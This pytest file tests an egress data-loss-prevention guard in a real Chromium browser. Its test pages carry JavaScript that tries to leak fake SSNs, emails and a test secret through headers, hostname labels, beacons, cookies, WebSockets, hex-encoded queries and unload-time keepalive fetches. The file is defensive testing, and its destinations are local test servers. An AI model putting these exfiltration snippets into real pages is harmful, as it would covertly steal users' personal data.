"""Egress DLP end to end: real Chromium, real Presidio, the local multi-host server and a minimal
WebSocket server. Each attack is proven by what the server received (nothing) and by the
``pii_finding`` / ``decision_record`` that explains it; the clean request next to it must arrive.
After every run the whole evidence folder is swept for every canary and the test secret.
"""

from __future__ import annotations

import base64
import hashlib
import json
import socket
import struct
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from guards.observed import RequestInfo
from runner.browser.driver import GateVerdict, SandboxConfig
from runner.browser.playwright_driver import open_driver
from tests.guards.pii_support import EMAIL, SSN, assert_no_canaries, findings, mission, pii_block, run, serve
from tests.server import TestServer

pytestmark = pytest.mark.browser

SECRET = "s3cr3t-Warden-canary-pw"
DOMAINS = ("allowed.localhost", "'*.allowed.localhost'")


class WsServer:
    """RFC 6455, the least of it: accepts every handshake, records each client message (opcode, payload)."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.messages: list[tuple[int, bytes]] = []
        self.handshakes: list[str] = []
        self._lock = threading.Lock()
        threading.Thread(target=self._accept, daemon=True).start()

    @property
    def port(self) -> int:
        return int(self.sock.getsockname()[1])

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(conn,), daemon=True).start()

    def _serve(self, conn: socket.socket) -> None:
        with conn:
            head = b""
            while b"\r\n\r\n" not in head:
                chunk = conn.recv(4096)
                if not chunk:
                    return
                head += chunk
            lines = head.decode("latin-1").split("\r\n")
            key = next(ln.split(":", 1)[1].strip() for ln in lines if ln.lower().startswith("sec-websocket-key:"))
            magic = (key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()  # the RFC 6455 handshake
            accept = base64.b64encode(hashlib.sha1(magic, usedforsecurity=False).digest())
            with self._lock:
                self.handshakes.append(lines[0])
            conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                         b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")
            f = conn.makefile("rb")
            while True:
                hdr = f.read(2)
                if len(hdr) < 2:
                    return
                opcode, n = hdr[0] & 0x0F, hdr[1] & 0x7F
                if n == 126:
                    n = struct.unpack(">H", f.read(2))[0]
                elif n == 127:
                    n = struct.unpack(">Q", f.read(8))[0]
                mask = f.read(4)
                data = bytes(b ^ mask[i % 4] for i, b in enumerate(f.read(n)))
                if opcode == 8:
                    return
                with self._lock:
                    self.messages.append((opcode, data))

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def ev(tmp_path: Path) -> Iterator[Path]:
    path = tmp_path / "ev"
    yield path
    if path.exists():
        assert_no_canaries(path, SECRET, SECRET.lower())


@pytest.fixture
def server(test_server: TestServer) -> TestServer:
    serve(test_server)
    return test_server


@pytest.fixture
def ws_server() -> Iterator[WsServer]:
    s = WsServer()
    yield s
    s.close()


def _routes(server: TestServer) -> list[str]:
    return [r.route for r in server.requests]


def _page(server: TestServer, path: str, script: str) -> str:
    server.set_content(path, f"<!doctype html><html><body><p>egress</p><script>{script}</script></body></html>")
    return server.url("allowed.localhost", path)


def _steps(url: str, wait: float = 2.0) -> list[str]:
    return [f"goto: {json.dumps(url)}", f"wait_for: {{seconds: {wait}}}"]


def _attack_page(server: TestServer) -> str:
    """Five channels, each carrying a canary, and one clean request that carries none."""
    ssn = json.dumps(SSN[3].value)
    label = f"http://{SSN[4].value}.allowed.localhost:{server.port}/label"
    return _page(server, "/attack", f"""(async () => {{
      await fetch('/ok', {{headers: {{'X-Trace': 'abc-123'}}}});
      await fetch('/hdr', {{headers: {{'X-Ref': {ssn}}}}}).catch(() => 0);
      new EventSource('/es?ref=' + encodeURIComponent({ssn}));
      await fetch({json.dumps(label)}, {{mode: 'no-cors'}}).catch(() => 0);
      navigator.sendBeacon('/beacon', 'contact=' + encodeURIComponent({json.dumps(EMAIL[3].value)}));
      document.cookie = 'sid=' + encodeURIComponent({json.dumps(EMAIL[4].value)}) + '; path=/';
      await fetch('/cookie').catch(() => 0);
    }})();""")


def test_block_stops_every_channel_and_lets_the_clean_request_through(
    tmp_path: Path, ev: Path, server: TestServer
) -> None:
    url = _attack_page(server)
    code, _, recs, _ = run(tmp_path, mission(_steps(url), pii=pii_block(on_request="block"), domains=DOMAINS), ev)
    assert code == 3
    got = _routes(server)
    assert "/ok" in got  # the clean one arrives (its custom header is scanned and allowed)
    for leaked in ("/hdr", "/es", "/label", "/beacon", "/cookie"):
        assert leaked not in got, f"{leaked} reached the server"
    assert not [r for r in server.requests if r.host.startswith(SSN[4].value)]
    found = findings(recs, "request")
    assert {f["action"] for f in found} == {"blocked"}
    sources = {f["location"]["source"] for f in found}
    assert {"header[x-ref]", "host", "header[cookie][sid]"} <= sources, sources
    assert any(s.startswith("query") for s in sources) and any(s.startswith("body") for s in sources), sources
    kinds = {f["location"]["resource_type"] for f in found}
    assert {"eventsource", "ping"} <= kinds, kinds
    refusals = [r for r in recs if r["type"] == "decision_record" and r.get("guard") == "pii.request"]
    assert refusals and all(r["decision"] == "deny" for r in refusals)


def test_record_lets_every_channel_through_and_records_it(tmp_path: Path, ev: Path, server: TestServer) -> None:
    url = _attack_page(server)
    code, _, recs, _ = run(tmp_path, mission(_steps(url), pii=pii_block(on_request="record"), domains=DOMAINS), ev)
    assert code == 0
    got = _routes(server)
    for route in ("/ok", "/hdr", "/es", "/label", "/beacon", "/cookie"):
        assert route in got, f"{route} did not arrive under record"
    found = findings(recs, "request")
    assert found and {f["action"] for f in found} == {"recorded"}
    assert {"header[x-ref]", "host", "header[cookie][sid]"} <= {f["location"]["source"] for f in found}


def test_websocket_messages_are_scanned_after_the_connection_opened(
    tmp_path: Path, ev: Path, server: TestServer, ws_server: WsServer
) -> None:
    ws = f"ws://allowed.localhost:{ws_server.port}/ws"
    url = _page(server, "/ws", f"""
      const a = new WebSocket({json.dumps(ws)});
      a.onopen = () => {{ a.send('hello'); setTimeout(() => a.send('ssn ' + {json.dumps(SSN[0].value)}), 300); }};
      const b = new WebSocket({json.dumps(ws)});
      b.binaryType = 'arraybuffer';
      b.onopen = () => setTimeout(() => b.send(new TextEncoder().encode({json.dumps(EMAIL[0].value)})), 300);""")
    code, _, recs, _ = run(tmp_path, mission(_steps(url), pii=pii_block(on_request="block"), domains=DOMAINS), ev)
    assert code == 3
    assert len(ws_server.handshakes) == 2  # the connections opened; only the messages were refused
    assert ws_server.messages == [(1, b"hello")]
    found = findings(recs, "request")
    assert {f["entity_type"] for f in found} >= {"US_SSN", "EMAIL_ADDRESS"}
    assert all(f["location"]["resource_type"] == "websocket_message" and f["location"]["method"] == "SEND"
               for f in found)


def test_websocket_record_forwards_the_message(
    tmp_path: Path, ev: Path, server: TestServer, ws_server: WsServer
) -> None:
    ws = f"ws://allowed.localhost:{ws_server.port}/ws"
    url = _page(server, "/ws", f"""const a = new WebSocket({json.dumps(ws)});
      a.onopen = () => a.send('ssn ' + {json.dumps(SSN[0].value)});""")
    code, _, recs, _ = run(tmp_path, mission(_steps(url), pii=pii_block(on_request="record"), domains=DOMAINS), ev)
    assert code == 0
    assert [m for _, m in ws_server.messages] == [f"ssn {SSN[0].value}".encode()]
    assert [f["action"] for f in findings(recs, "request")] == ["recorded"]


def _secrets() -> str:
    return "secrets:\n  API_KEY: {env: WARDEN_TEST_KEY, domains: [allowed.localhost]}\n"


def test_secret_in_a_host_label_or_cookie_never_leaves_its_domain(
    tmp_path: Path, ev: Path, server: TestServer, ws_server: WsServer
) -> None:
    ws = f"ws://other.allowed.localhost:{ws_server.port}/ws"
    url = _page(server, "/sec", f"""(async () => {{
      const k = {json.dumps(SECRET)};
      await fetch('/own', {{headers: {{'X-Key': k}}}});
      await fetch('http://' + k + '.allowed.localhost:{server.port}/label', {{mode: 'no-cors'}}).catch(() => 0);
      await fetch('http://other.allowed.localhost:{server.port}/hex?d=' +
        Array.from(new TextEncoder().encode(k)).map(b => b.toString(16).padStart(2, '0')).join(''),
        {{mode: 'no-cors'}}).catch(() => 0);
      const w = new WebSocket({json.dumps(ws)}); w.onopen = () => w.send('key=' + k);
    }})();""")
    text = mission(_steps(url), pii=pii_block(on_request="record"), secrets=_secrets(), domains=DOMAINS)
    code, _, recs, _ = run(tmp_path, text, ev, environ={"WARDEN_TEST_KEY": SECRET})
    assert code == 3
    got = _routes(server)
    assert "/own" in got  # to its own domain, in a custom header: allowed
    assert "/label" not in got and "/hex" not in got
    assert ws_server.messages == []
    denies = [r for r in recs if r["type"] == "decision_record" and r.get("guard") == "secrets.request"]
    assert denies and all(r["decision"] == "deny" for r in denies)
    assert any("host" in r["rationale"] for r in denies)


def _unload_page(server: TestServer, value: str, other: str, live: str = "") -> list[str]:
    """A page that sends a beacon and a keepalive fetch from ``pagehide`` (the context route never sees
    these: the page is gone), then the mission navigates away so they are sent."""
    v, w = json.dumps(value), json.dumps(other)
    url = _page(server, "/ka", f"""{live}
      window.addEventListener('pagehide', () => {{
      navigator.sendBeacon('/beacon', 'v=' + encodeURIComponent({v}));
      fetch('/api', {{method: 'POST', body: 'w=' + encodeURIComponent({w}), keepalive: true}}); }});""")
    return [f"goto: {json.dumps(url)}", "wait_for: {seconds: 0.5}",
            f"goto: {json.dumps(server.url('allowed.localhost', '/done'))}", "wait_for: {seconds: 1}"]


def _unload_findings(recs: list[dict[str, object]]) -> set[str]:
    return {str(f["location"]["resource_type"]) for f in findings(recs, "request")}


def test_unload_beacon_and_keepalive_with_pii_are_refused_by_the_browser_layer(
    tmp_path: Path, ev: Path, server: TestServer
) -> None:
    """Second line of defence (runner/browser/browser_fetch.py): the browser-level Fetch layer judges
    what the route cannot see. Nothing reaches the server; the finding and the refusal explain it."""
    steps = _unload_page(server, SSN[1].value, EMAIL[2].value)
    code, _, recs, _ = run(tmp_path, mission(steps, pii=pii_block(on_request="block"), domains=DOMAINS), ev)
    assert code == 3
    got = _routes(server)
    assert "/done" in got
    assert "/beacon" not in got and "/api" not in got  # neither the beacon nor the keepalive fetch
    found = findings(recs, "request")
    assert found and {f["action"] for f in found} == {"blocked"}
    assert _unload_findings(recs) == {"ping", "xhr"}  # both judged by the browser layer
    refusals = [r for r in recs if r["type"] == "decision_record" and r.get("guard") == "pii.request"]
    assert refusals and all(r["decision"] == "deny" for r in refusals)


def test_unload_beacon_with_pii_passes_and_is_recorded_under_record(
    tmp_path: Path, ev: Path, server: TestServer
) -> None:
    steps = _unload_page(server, SSN[1].value, EMAIL[2].value)
    code, _, recs, _ = run(tmp_path, mission(steps, pii=pii_block(on_request="record"), domains=DOMAINS), ev)
    assert code == 0
    got = _routes(server)
    assert got.count("/beacon") == 1 and got.count("/api") == 1
    found = findings(recs, "request")
    assert found and {f["action"] for f in found} == {"recorded"}
    assert _unload_findings(recs) == {"ping", "xhr"}


def test_clean_unload_beacon_arrives_and_a_live_one_is_judged_once(
    tmp_path: Path, ev: Path, server: TestServer
) -> None:
    """The allowed case: a clean unload beacon and keepalive fetch still arrive. A beacon sent while the
    page lives is judged by the route and only reused by the browser layer: one finding, not two."""
    live = f"navigator.sendBeacon('/live', 'v=' + encodeURIComponent({json.dumps(EMAIL[1].value)}));"
    steps = _unload_page(server, "hello", "world", live=live)
    code, _, recs, _ = run(tmp_path, mission(steps, pii=pii_block(on_request="record"), domains=DOMAINS), ev)
    assert code == 0
    got = _routes(server)
    assert got.count("/beacon") == 1 and got.count("/api") == 1 and got.count("/live") == 1
    found = findings(recs, "request")
    sources = [f["location"]["source"] for f in found]  # one judgement: each source once
    assert found and len(sources) == len(set(sources)), sources
    assert {f["entity_type"] for f in found} == {"EMAIL_ADDRESS"}


def _layer_page(server: TestServer) -> str:
    return _page(server, "/layer", """navigator.sendBeacon('/live', 'a=1');
      fetch('/f', {method: 'POST', body: 'b'});
      addEventListener('pagehide', () => { navigator.sendBeacon('/beacon', 'c=deny');
        fetch('/api', {method: 'POST', body: 'd', keepalive: true}); });""")


def test_browser_layer_judges_only_what_the_route_missed_and_fails_closed(
    chromium_path: Path, server: TestServer
) -> None:
    """Each request reaches the gate exactly once: the live beacon/fetch from the route (the browser
    layer reuses the verdict), the unload ones from the browser layer; a gate that raises refuses."""
    calls: list[tuple[str, str, bytes | None]] = []

    def gate(info: RequestInfo) -> GateVerdict:
        calls.append((info.url.rsplit("/", 1)[-1], info.resource_type, info.body))
        if info.body == b"c=deny":
            raise RuntimeError("gate broke")
        return GateVerdict(b"deny" not in (info.body or b""), "refused")

    cfg = SandboxConfig(executable=chromium_path, resolvable_hosts=("allowed.localhost",), request_gate=gate)
    with open_driver(cfg) as d:
        d.perform("goto", {"url": _layer_page(server)}, 10)
        d.page.wait_for_timeout(500)
        errors = []
        for kind, args in (("goto", {"url": server.url("allowed.localhost", "/done")}), ("wait_for", {"seconds": 1})):
            try:
                d.perform(kind, args, 10)
            except RuntimeError as exc:  # the gate's error, deferred: surfaces after the action
                errors.append(str(exc))
        assert errors == ["gate broke"]
    # ("f", "xhr"): the browser-level layer judges every request now; Chromium reports fetch() to it as XHR
    calls = [c for c in calls if c[0] != "favicon.ico"]  # the browser's icon requests: judged too, not asserted
    assert sorted(calls) == sorted([("layer", "document", None), ("live", "ping", b"a=1"), ("f", "xhr", b"b"),
                                    ("done", "document", None), ("beacon", "ping", b"c=deny"),
                                    ("api", "xhr", b"d")])
    got = _routes(server)
    assert {"/live", "/f", "/done"} <= set(got)
    assert "/beacon" not in got  # failed closed
    assert "/api" in got  # the unload keepalive fetch, judged by this layer and allowed


def _send_both(trigger: str) -> str:
    """``trigger`` with a clean keepalive fetch and beacon (which must arrive) and ones carrying an SSN."""
    ssn = json.dumps(SSN[2].value)
    return trigger.replace("BODY", f"""
      fetch('/ok-fetch', {{method: 'POST', body: 'n=1', keepalive: true}});
      navigator.sendBeacon('/ok-beacon', 'n=2');
      fetch('/leak-fetch', {{method: 'POST', body: 'v=' + encodeURIComponent({ssn}), keepalive: true}});
      navigator.sendBeacon('/leak-beacon', 'v=' + encodeURIComponent({ssn}));""")


PAGEHIDE = "addEventListener('pagehide', () => { BODY });"
# The events a leaving document can still send from (pagehide itself: the tests above).
UNLOAD_TRIGGERS = {
    "unload": "addEventListener('unload', () => { BODY });",
    "visibilitychange": "document.addEventListener('visibilitychange', () => { if (document.hidden) { BODY } });",
    "freeze": "document.addEventListener('freeze', () => { BODY }); " + PAGEHIDE,
}


@pytest.mark.parametrize("trigger", sorted(UNLOAD_TRIGGERS))
def test_unload_channels_with_pii_never_arrive_and_clean_ones_do(
    trigger: str, tmp_path: Path, ev: Path, server: TestServer
) -> None:
    """Each event a leaving page can send from: the canary never reaches the server, its clean twin does."""
    url = _page(server, f"/u-{trigger}", _send_both(UNLOAD_TRIGGERS[trigger]))
    steps = [f"goto: {json.dumps(url)}", "wait_for: {seconds: 0.3}",
             f"goto: {json.dumps(server.url('allowed.localhost', '/done'))}", "wait_for: {seconds: 1}"]
    code, _, recs, _ = run(tmp_path, mission(steps, pii=pii_block(on_request="block"), domains=DOMAINS), ev)
    got = _routes(server)
    assert "/ok-fetch" in got and "/ok-beacon" in got, got
    assert "/leak-fetch" not in got and "/leak-beacon" not in got, got
    assert code == 3
    assert {f["action"] for f in findings(recs, "request")} == {"blocked"}


def test_a_removed_iframe_cannot_send_pii_as_it_dies(tmp_path: Path, ev: Path, server: TestServer) -> None:
    """A same-origin frame the page removes: its document unloads and its frame is gone."""
    server.set_content("/child", f"<!doctype html><p>child</p><script>{_send_both(PAGEHIDE)}</script>")
    url = _page(server, "/parent", """const f = document.createElement('iframe'); f.src = '/child';
      document.body.appendChild(f); f.onload = () => { const b = document.createElement('button');
        b.id = 'rm'; b.textContent = 'remove'; b.onclick = () => f.remove(); document.body.appendChild(b); };""")
    steps = [f"goto: {json.dumps(url)}", "click: {selector: '#rm'}",  # the button exists once the frame loaded
             f"goto: {json.dumps(server.url('allowed.localhost', '/done'))}", "wait_for: {seconds: 0.5}"]
    code, _, recs, _ = run(tmp_path, mission(steps, pii=pii_block(on_request="block"), domains=DOMAINS), ev)
    got = _routes(server)
    assert "/leak-fetch" not in got and "/leak-beacon" not in got, got
    # Judged by the route (the frame still existed: the run stops, exit 3) or, when the frame was gone
    # first, by the browser layer, possibly after the last step (recorded, exit 0): blocked either way.
    # The clean twins usually arrive, but a request the route holds when its frame detaches is dropped.
    assert code in (0, 3)
    assert {f["action"] for f in findings(recs, "request")} == {"blocked"}


def test_the_run_closing_the_page_is_no_way_out(tmp_path: Path, ev: Path, server: TestServer) -> None:
    """The mission ends on the page: its pagehide fires as Warden closes the browser. The canary never
    arrives and the refusal is still recorded (the request gate outlives the browser in the close)."""
    url = _page(server, "/last", _send_both(PAGEHIDE))
    code, _, recs, _ = run(tmp_path, mission(_steps(url, 0.3), pii=pii_block(on_request="block"), domains=DOMAINS), ev)
    got = _routes(server)
    assert "/leak-fetch" not in got and "/leak-beacon" not in got, got
    assert code == 0  # every step had run: the refusal after the last one is recorded, not a stop
    assert {f["action"] for f in findings(recs, "request")} == {"blocked"}


def test_unload_bodies_in_other_shapes_are_read_too(tmp_path: Path, ev: Path, server: TestServer) -> None:
    """The browser layer reads the body whatever its shape: a Blob, FormData, URLSearchParams."""
    ssn = json.dumps(SSN[3].value)
    url = _page(server, "/shapes", f"""addEventListener('pagehide', () => {{
      navigator.sendBeacon('/leak-blob', new Blob(['v=' + {ssn}], {{type: 'text/plain'}}));
      const f = new FormData(); f.append('v', {ssn}); navigator.sendBeacon('/leak-form', f);
      fetch('/leak-params', {{method: 'POST', body: new URLSearchParams({{v: {ssn}}}), keepalive: true}});
      navigator.sendBeacon('/ok-blob', new Blob(['n=1'])); }});""")
    steps = [f"goto: {json.dumps(url)}", "wait_for: {seconds: 0.3}",
             f"goto: {json.dumps(server.url('allowed.localhost', '/done'))}", "wait_for: {seconds: 1}"]
    code, _, recs, _ = run(tmp_path, mission(steps, pii=pii_block(on_request="block"), domains=DOMAINS), ev)
    got = _routes(server)
    assert "/ok-blob" in got, got
    assert not {"/leak-blob", "/leak-form", "/leak-params"} & set(got), got
    assert code == 3
    assert {f["action"] for f in findings(recs, "request")} == {"blocked"}
